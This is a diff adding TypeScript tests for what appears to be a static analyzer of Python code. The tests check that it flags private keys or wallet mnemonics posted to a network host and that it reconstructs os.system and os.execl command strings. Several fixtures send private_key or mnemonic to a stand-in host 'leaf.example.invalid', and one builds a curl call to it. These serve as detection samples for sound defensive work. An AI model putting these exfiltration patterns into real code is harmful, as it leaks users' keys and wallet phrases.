@@ -52,3 +52,36 @@ test('a stand-in for what each Python has is never taken, and one for anything e
   expect(await when(STAND_IN('wraps'))).toEqual(['latent']);
   expect(await when(STAND_IN('not_there'))).toEqual(['import']);
 });
+
+const sent = (parameters: string) => found(parameterToNetwork, `import requests\ndef get(${parameters}):\n    requests.post("https://leaf.example.invalid", data=private_key)\n`);
+
+test('a private key beside a certificate that has to be given too is the one of a connection', async () => {
+  expect(await sent('certificate, private_key')).toEqual([]);
+  expect(await sent('cert_file, private_key, url=None')).toEqual([]);
+  expect(await sent('private_key')).toEqual(['medium']);
+  expect(await sent('private_key, certificate=None')).toEqual(['medium']);
+  expect(await sent('certified, private_key')).toEqual(['medium']);
+  expect(await sent('private_key, *certificate')).toEqual(['medium']);
+  expect(await sent('certificate: str, private_key: str')).toEqual([]);
+});
+
+test('the phrase of a wallet is no key of a certificate', async () => {
+  expect(await found(parameterToNetwork, 'import requests\ndef get(certificate, mnemonic):\n    requests.post("https://leaf.example.invalid", data=mnemonic)\n')).toEqual(['medium']);
+});
+
+const commands = async (text: string) => (await read(`import os\n${text}\n`)).facts?.calls('process').map((call) => call.text);
+
+test('a template that begins with what is not known is filled behind it', async () => {
+  expect(await commands('base = "%s/leaf-config {}" % folder()\nos.system(base.format("--libs"))')).toEqual(['{}/leaf-config --libs']);
+  expect(await commands('os.system("{} {{}}".format("curl").format("leaf.example.invalid"))')).toEqual(['curl leaf.example.invalid']);
+});
+
+test.each([
+  ['os.execl("bin/leaf", "bin/leaf", "+go")', 'bin/leaf +go'],
+  ['os.execl("/bin/sh", "sh", "-c", "true")', '/bin/sh -c true'],
+  ['os.spawnl(os.P_WAIT, "bin/leaf", "leaf", "+go")', 'bin/leaf +go'],
+  ['os.execl("/bin/sh", "garden", "-c", "true")', '/bin/sh garden -c true'],
+  ['os.execl(program(), "python", "-c", "1")', '{} python -c 1'],
+])('a program is not told its own name twice: %s', async (call, text) => {
+  expect(await commands(call)).toEqual([text]);
+});
